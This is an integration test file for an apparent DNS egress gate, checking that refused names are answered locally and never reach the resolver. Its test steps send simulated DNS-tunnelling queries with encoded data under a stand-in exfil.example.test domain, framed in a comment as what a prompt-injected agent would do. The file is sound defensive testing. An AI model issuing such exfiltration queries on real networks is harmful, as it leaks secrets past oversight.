//! DNS over UDP through the agent's gate in the workload's namespace: a
//! query for a name the policy does not allow, the namespace's very first
//! included (caught on loopback before the gate there is open), is answered
//! by the agent and never reaches the resolver (no tunnelling through it), while allowed names
//! resolve, are learned before the answer arrives, and the workload sees
//! the resolver's address as the source (IPv4 and IPv6 resolvers).

mod common;

use common::{Exec, s};
use portcullis_tests::{Bench, require_root};

const DIG: &str = "dig +time=2 +tries=1";

/// One allowed name, an IPv4 and an IPv6 trusted resolver.
const POLICY: &str = r#"
egress:
  - toFQDNs: [{matchName: api.example.test}]
    ports: [{port: 443}]
dns:
  servers: ["198.51.100.53", "2001:db8:53::53"]
"#;

fn queries_for(bench: &Bench, name: &str) -> usize {
    std::fs::read_to_string(bench.dns_log_path())
        .unwrap_or_default()
        .lines()
        .filter(|l| l.contains("query[") && l.contains(name))
        .count()
}

/// A `dnsq.py` step got an answer with `rcode`, its own transaction id, from
/// the resolver's address (the checks musl and dnspython make); returns
/// dnsq's report.
fn answered(r: &common::Steps, step: &str, rcode: u64, case: &str) -> serde_json::Value {
    let st = r.get(step);
    let v: serde_json::Value = serde_json::from_str(st.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {st:?}"));
    let a = &v["answer"];
    assert_eq!(a["rcode"], rcode, "{case} {step}: {v}\n{}", r.outcome.ran.stderr);
    assert_eq!(a["id_ok"], true, "{case} {step}: {v}");
    assert_eq!(a["from_ok"], true, "{case} {step}: the answer must come from the resolver: {v}");
    v
}

#[test]
fn refused_names_never_reach_the_resolver_not_even_the_first() {
    if !require_root() {
        return;
    }
    let bench = Bench::start().unwrap();
    // Data smuggled in a name, as a prompt-injected agent would.
    let leak = "c2vjcmv0lwtles0xmjm0.exfil.example.test";
    let r = Exec::new(&bench).policy(POLICY).steps(&[
        // The very first query from the pod's namespace, which has no gate
        // yet: caught on loopback, the agent opens the gates and answers.
        ("leak", &format!("{DIG} {leak} TXT")),
        ("first", &format!("{DIG} +short api.example.test A")),
        ("other", &format!("{DIG} other.example.test A")),
        ("other-v6", &format!("{DIG} @2001:db8:53::53 other.example.test AAAA")),
        ("allowed", &format!("{DIG} +short api.example.test A")),
        ("allowed-v6", &format!("{DIG} +short @2001:db8:53::53 api.example.test AAAA")),
        // A Python client on a connected socket checks id and source.
        ("dnsq", "$PY $DNSQ 198.51.100.53 api.example.test --wait 0.3"),
        ("connect", "$PY $SOCK tcp 203.0.113.10 443"),
        ("connect-v6", "$PY $SOCK tcp 2001:db8:100::10 443"),
    ]);
    r.outcome.expect_code(0);
    r.ok("first", "203.0.113.10\n");
    for step in ["other", "leak", "other-v6"] {
        let st = r.get(step);
        assert_eq!(st.code, 0, "{st:?}\n{}", r.outcome.ran.stderr);
        assert!(st.stdout.contains("status: NXDOMAIN"), "{st:?}");
        // dig warns when an answer comes from another address than asked.
        assert!(!st.stdout.contains("unexpected source"), "{st:?}");
    }
    r.ok("allowed", "203.0.113.10\n");
    r.ok("allowed-v6", "2001:db8:100::10\n");
    let q = r.get("dnsq");
    let v: serde_json::Value = serde_json::from_str(q.stdout.trim()).unwrap();
    assert_eq!(v["answer"]["id_ok"], true, "{v}");
    assert_eq!(v["answer"]["ips"][0], "203.0.113.10", "{v}");
    assert_eq!(r.sock("connect")["ok"], true);
    assert_eq!(r.sock("connect-v6")["ok"], true);

    assert_eq!(queries_for(&bench, "other.example.test"), 0, "a refused query reached the resolver");
    assert_eq!(queries_for(&bench, "exfil.example.test"), 0, "a refused query reached the resolver");
    assert!(queries_for(&bench, "api.example.test") >= 4, "allowed queries do reach it");
    let log = r.log();
    for (dst, host) in
        [("198.51.100.53", "other.example.test"), ("198.51.100.53", leak), ("2001:db8:53::53", "other.example.test")]
    {
        log.expect(dst, 53, &[("reason", s("denied-dns-name")), ("host", s(host)), ("comm", s("dig"))]);
    }
}

/// Stub resolvers on unconnected sockets (musl, dnspython: `sendto`) from a
/// namespace with no gate yet: the datagram goes to the namespace's
/// loopback sink, the agent answers it as the resolver (the source those
/// resolvers check), and a refused name never reaches the resolver. One
/// agent run per family: the first query opens the gates for both.
#[test]
fn first_queries_are_caught_on_unconnected_and_ipv6_connected_sockets() {
    if !require_root() {
        return;
    }
    let bench = Bench::start().unwrap();
    let v6 = ("2001:db8:53::53", "AAAA", "2001:db8:100::10", "2001:db8:100::10 443");
    let cases = [
        ("198.51.100.53", "A", "mfrggzdfmztwq2lk.v4.exfil.example.test", "203.0.113.10", "203.0.113.10 443", "--unconnected"),
        (v6.0, v6.1, "mfrggzdfmztwq2lk.v6.exfil.example.test", v6.2, v6.3, "--unconnected"),
        // A connected IPv6 socket (glibc with an IPv6 nameserver): caught
        // through the IPv4 placeholder (`sock::catch_via_placeholder`).
        (v6.0, v6.1, "mfrggzdfmztwq2lk.v6c.exfil.example.test", v6.2, v6.3, ""),
    ];
    for (resolver, qtype, leak, ip, target, flags) in cases {
        let r = Exec::new(&bench).policy(POLICY).steps(&[
            ("leak", &format!("$PY $DNSQ {resolver} {leak} --type {qtype} {flags} --wait 0.2")),
            ("allowed", &format!("$PY $DNSQ {resolver} api.example.test --type {qtype} {flags} --wait 0.2")),
            ("connect", &format!("$PY $SOCK tcp {target}")),
        ]);
        r.outcome.expect_code(0);
        for (step, rcode) in [("leak", 3), ("allowed", 0)] {
            let v = answered(&r, step, rcode, &format!("{resolver} {flags}"));
            if step == "allowed" {
                assert_eq!(v["answer"]["ips"][0], ip, "{resolver} {flags}: {v}");
            }
        }
        assert_eq!(r.sock("connect")["ok"], true, "{resolver} {flags}: the caught answer was learned from");
        assert_eq!(queries_for(&bench, leak), 0, "{resolver} {flags}: a refused first query reached the resolver");
        r.log().expect(resolver, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
    }
    // An IPV6_V6ONLY socket cannot take the placeholder (dig's; dnsq's with
    // --v6only): its query is caught on egress instead, dropped there and
    // answered by injection. Neither client sets IPV6_RECVERR, so the drop
    // is silent to them.
    let leak = "mfrggzdfmztwq2lk.v6only.exfil.example.test";
    let dnsq = format!("$PY $DNSQ {} {leak} --type AAAA --v6only --wait 0.2", v6.0);
    let r = Exec::new(&bench).policy(POLICY).steps(&[
        ("leak", &dnsq),
        ("allowed", &format!("$PY $DNSQ {} api.example.test --type AAAA --v6only --wait 0.2", v6.0)),
        ("connect", &format!("$PY $SOCK tcp {}", v6.3)),
    ]);
    r.outcome.expect_code(0);
    for (step, rcode) in [("leak", 3), ("allowed", 0)] {
        answered(&r, step, rcode, "V6ONLY");
    }
    assert_eq!(r.sock("connect")["ok"], true, "V6ONLY: learned");
    assert_eq!(queries_for(&bench, leak), 0, "V6ONLY: a refused first query reached the resolver");
    r.log().expect(v6.0, 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);

    // dig itself, first in a fresh run: IPV6_V6ONLY, bound before connect.
    let leak = "mfrggzdfmztwq2lk.dig6.exfil.example.test";
    let r = Exec::new(&bench).policy(POLICY).steps(&[
        ("leak", &format!("{DIG} @{} {leak} AAAA", v6.0)),
        ("allowed", &format!("{DIG} +short @{} api.example.test AAAA", v6.0)),
        ("connect", &format!("$PY $SOCK tcp {}", v6.3)),
    ]);
    r.outcome.expect_code(0);
    let st = r.get("leak");
    assert!(st.stdout.contains("status: NXDOMAIN"), "{st:?}\n{}", r.outcome.ran.stderr);
    assert!(!st.stdout.contains("unexpected source"), "{st:?}");
    r.ok("allowed", "2001:db8:100::10\n");
    assert_eq!(r.sock("connect")["ok"], true, "dig over IPv6: learned");
    assert_eq!(queries_for(&bench, leak), 0, "dig over IPv6: a refused first query reached the resolver");
    assert!(queries_for(&bench, "api.example.test") >= 2, "allowed queries do reach it");
}

/// glibc's `getaddrinfo` with an IPv6 nameserver in resolv.conf (connected
/// AF_INET6 socket, A and AAAA at once with `sendmmsg`): the namespace's
/// first lookup, for a refused name, is caught through the IPv4 placeholder
/// and never reaches the resolver; an allowed name then resolves and
/// connects.
#[test]
fn glibc_with_an_ipv6_nameserver_is_gated_from_the_first_lookup() {
    if !require_root() {
        return;
    }
    let bench = Bench::start().unwrap();
    let resolv = bench.resolv_conf_dir("pod").join("resolv.conf");
    std::fs::write(&resolv, "nameserver 2001:db8:53::53\noptions timeout:1 attempts:2\n").unwrap();
    let leak = "mfrggzdfmztwq2lk.glibc6.exfil.example.test";
    let r = Exec::new(&bench).policy(POLICY).steps(&[
        ("leak", &format!("getent ahosts {leak}")),
        ("allowed", "getent ahostsv6 api.example.test"),
        ("connect", "$PY $SOCK tcp 2001:db8:100::10 443"),
    ]);
    r.outcome.expect_code(0);
    let st = r.get("leak");
    // getent: 2 = not found (NXDOMAIN), not a timeout or error.
    assert_eq!(st.code, 2, "{st:?}\n{}", r.outcome.ran.stderr);
    let st = r.get("allowed");
    assert_eq!(st.code, 0, "{st:?}\n{}", r.outcome.ran.stderr);
    assert!(st.stdout.contains("2001:db8:100::10"), "{st:?}");
    assert_eq!(r.sock("connect")["ok"], true, "learned from glibc's lookup");
    assert_eq!(queries_for(&bench, leak), 0, "a refused first lookup reached the resolver");
    assert!(queries_for(&bench, "api.example.test") >= 1, "allowed lookups do reach it");
    r.log().expect("2001:db8:53::53", 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
}

/// Trusted resolvers on a port other than 53 (baddns.py on 5353, IPv4 and
/// IPv6): the socket hooks redirect only port 53 (the loopback sink, the
/// IPv4 placeholder), so a first query from an unconnected socket, and one
/// from a connected socket of either family, is caught on egress instead,
/// dropped and answered by injection. A refused name never reaches the
/// resolver.
#[test]
fn first_queries_to_a_resolver_on_another_port_are_caught() {
    if !require_root() {
        return;
    }
    let bench = Bench::builder().bad_dns(true).bad_dns_port(5353).bad_dns_v6(true).start().unwrap();
    let policy = "
egress:
  - toFQDNs: [{matchName: ok.example.test}]
    ports: [{port: 443}]
dns:
  servers: [\"198.51.100.54:5353\", \"[2001:db8:100::54]:5353\"]
";
    let cases = [
        ("198.51.100.54", "--unconnected"),
        ("198.51.100.54", ""),
        ("2001:db8:100::54", ""),
        ("2001:db8:100::54", "--unconnected"),
    ];
    for (n, (resolver, flags)) in cases.into_iter().enumerate() {
        let leak = format!("mfrggzdfmztwq2lk.p5353c{n}.exfil.example.test");
        let dnsq = |name: &str| format!("$PY $DNSQ {resolver} {name} --port 5353 {flags} --wait 0.2");
        let r = Exec::new(&bench).policy(policy).steps(&[
            ("leak", &dnsq(&leak)),
            ("allowed", &dnsq("ok.example.test")),
            ("connect", "$PY $SOCK tcp 203.0.113.67 443"),
        ]);
        r.outcome.expect_code(0);
        for (step, rcode) in [("leak", 3), ("allowed", 0)] {
            answered(&r, step, rcode, &format!("{resolver}:5353 {flags}"));
        }
        assert_eq!(r.sock("connect")["ok"], true, "{resolver} {flags}: learned from the caught answer");
        let log = std::fs::read_to_string(bench.bad_dns_log_path().unwrap()).unwrap();
        assert!(!log.contains(&leak), "{resolver} {flags}: a refused first query reached the resolver:\n{log}");
        assert!(log.contains("query ok.example.test"), "{resolver} {flags}: allowed queries do reach it:\n{log}");
        r.log().expect(resolver, 5353, &[("reason", s("denied-dns-name")), ("host", s(&leak))]);
    }
}
